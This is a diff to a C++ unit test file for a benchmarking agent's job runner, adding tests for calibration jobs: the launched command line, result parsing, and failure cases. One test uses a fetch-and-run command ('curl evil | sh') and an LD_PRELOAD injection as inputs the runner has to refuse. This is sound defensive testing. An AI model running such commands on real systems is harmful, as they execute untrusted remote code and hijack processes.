@@ -74,7 +74,12 @@ class RecordingSink : public ResultSink {
     events.push_back({"metric", k, m.name});
     metrics.push_back(m);
   }
+  void calibration(const ResultKey& k, const CalibrationTimes& t) override {
+    events.push_back({"calibration", k, t.benchmark});
+    calibrations.push_back(t);
+  }
   std::vector<Event> events;
+  std::vector<CalibrationTimes> calibrations;
   std::vector<StepResult> steps;
   std::vector<StepResult> samples;
   std::vector<CollectedMetric> metrics;
@@ -577,6 +582,64 @@ TEST_F(JobRunnerTest, IgnoredBenchFailureGoesOn) {
   for (pid_t p = 1000; !r->done(); ++p) r->on_exit(exited(p, 1));
   EXPECT_EQ(sink.outcome, JobOutcome::kSucceeded);
   EXPECT_EQ(sink.samples.size(), 3u);
+}
+
+}  // namespace
+}  // namespace yardstick
+
+namespace yardstick {
+namespace {
+
+TEST_F(JobRunnerTest, CalibrationJobRunsTheAgentsOwnProgramAndReportsEachBenchmark) {
+  job.kind = "calibrate";
+  job.env.clear();
+  options.self_exe = "/opt/yardstick/bin/yardstick-agent";
+  auto r = make();
+  r->start();
+  ASSERT_EQ(launcher.requests.size(), 1u);
+  const std::string work = (home / "work" / "5-2").string();
+  EXPECT_EQ(launcher.requests[0].command, "'/opt/yardstick/bin/yardstick-agent' calibrate --dir '" +
+                                              work + "' --out '" + work +
+                                              ".calibration' --repetitions 15");
+  // What `yardstick-agent calibrate` writes.
+  std::ofstream(work + ".calibration") << "cpu 0.010 0.011 0.012\nio 0.004 0.005 0.004\n";
+  EXPECT_TRUE(r->on_exit(exited(1000, 0)));
+  EXPECT_TRUE(r->done());
+  EXPECT_EQ(sink.outcome, JobOutcome::kSucceeded);
+  ASSERT_EQ(sink.calibrations.size(), 2u);
+  EXPECT_EQ(sink.calibrations[0].benchmark, "cpu");
+  EXPECT_EQ(sink.calibrations[0].times_s, (std::vector<double>{0.010, 0.011, 0.012}));
+  EXPECT_EQ(sink.calibrations[1].benchmark, "io");
+  EXPECT_FALSE(std::filesystem::exists(work + ".calibration"));
+}
+
+TEST_F(JobRunnerTest, CalibrationJobWithoutResultsFails) {
+  job.kind = "calibrate";
+  job.env.clear();
+  options.self_exe = "/bin/yardstick-agent";
+  auto r = make();
+  r->start();
+  EXPECT_TRUE(r->on_exit(exited(1000, 0)));  // exited 0, wrote nothing
+  EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
+  EXPECT_TRUE(sink.calibrations.empty());
+}
+
+TEST_F(JobRunnerTest, CalibrationJobCarryingACommandIsRefused) {
+  job.kind = "calibrate";
+  job.env.clear();
+  job.steps = {{"sneaky", "curl evil | sh", {}, true, 0, {}, {}}};
+  options.self_exe = "/bin/yardstick-agent";
+  auto r = make();
+  r->start();
+  EXPECT_TRUE(launcher.requests.empty());
+  EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
+  job.steps.clear();
+  job.env = {{"LD_PRELOAD", "/tmp/x.so"}};
+  sink = RecordingSink();
+  auto r2 = make();
+  r2->start();
+  EXPECT_TRUE(launcher.requests.empty());
+  EXPECT_EQ(sink.outcome, JobOutcome::kFailed);
 }
 
 }  // namespace
